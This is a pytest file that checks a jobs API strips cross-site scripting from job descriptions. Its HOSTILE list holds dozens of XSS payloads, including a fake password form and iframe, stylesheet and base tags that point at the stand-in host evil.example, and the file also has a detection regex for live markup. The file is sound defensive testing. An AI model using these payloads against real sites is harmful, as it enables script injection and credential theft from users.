"""Whatever a description holds, what is shown of it is harmless."""

import re
from typing import Any

import pytest

from conftest import Api, Cast, sign_in
from jobs.models import Job
from jobs.tests.bodies import JOBS, welder

FORMATS = [{"description_format": "html"}, {"description_format": "markdown"}, {}]
HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '<a href="https://a.example" onclick="alert(1)" style="x">x</a>',
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<iframe src=//evil.example></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<form action=//evil.example><input name=password><button>Go</form>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>",
    "<base href=//evil.example>",
    "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<p id=x class=y data-x=z>a</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<details open ontoggle=alert(1)>",
    "</div></body></html><script>alert(1)</script>",
    "<b" + ">" * 200,
    "<" * 1_600,
    "<div>" * 1_200,
    "[" * 1_600,
    "*" * 4_900,
    "> " * 2_000 + "x",
    "\u202e\u2066x<b>y",
]  # fmt: skip
ALIVE = re.compile(
    r"<(script|style|img|svg|math|iframe|object|embed|applet|form|input|button|link"
    r"|meta|base|template|video|source|details|noscript)\b"
    r"|<[^>]*\s(on\w+|style|id|class|src|data-\w+)\s*=|href=\"(?!https?:|mailto:)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_alive_is_shown(cast: Cast, text: str):
    bob = sign_in(cast.bob)
    for number, written in enumerate(FORMATS):
        body: dict[str, Any] = {
            **welder(title=f"W{number}"),
            **written,
            "description": f"You weld.\n\n{text}",
        }
        made = bob.post(JOBS, body)
        assert made.status_code == 201, made.content
        shown = made.json()["description"]
        assert "You weld." in shown
        assert not ALIVE.search(shown), shown
        url = made.json()["url"]
        bob.post(f"{url}submit/")
        assert not ALIVE.search(Api().get(url).json()["description"])
        posting = Api().get(f"{url}jsonld/")
        assert not ALIVE.search(posting.json()["description"])
        # In a page, nothing of it ends the script that it stands in.
        assert set("<>&").isdisjoint(posting.content.decode())
    for job in Job.objects.all():
        assert "You weld." in job.description_text


def test_what_is_shown_stays_as_it_is_when_it_is_written_again(cast: Cast):
    bob = sign_in(cast.bob)
    for number, text in enumerate(HOSTILE):
        body = welder(title=f"W{number}", description=f"You weld.\n\n{text}")
        made = bob.post(JOBS, body).json()
        again = {"description": made["description"], "description_format": "html"}
        after = bob.patch(made["url"], again)
        assert after.status_code == 200, (number, after.content[:500])
        assert after.json()["description"] == made["description"], number


@pytest.mark.parametrize("name", ["title", "external_id"])
def test_other_texts_are_texts(cast: Cast, name: str):
    """They are shown as they are: escaping is for whoever makes a page of them."""
    text = "<b>R&D</b> <script>alert(1)</script>"
    made = sign_in(cast.bob).post(JOBS, welder(**{name: text}))
    assert made.json()[name] == text
    assert made["Content-Type"] == "application/json"
    assert made["X-Content-Type-Options"] == "nosniff"
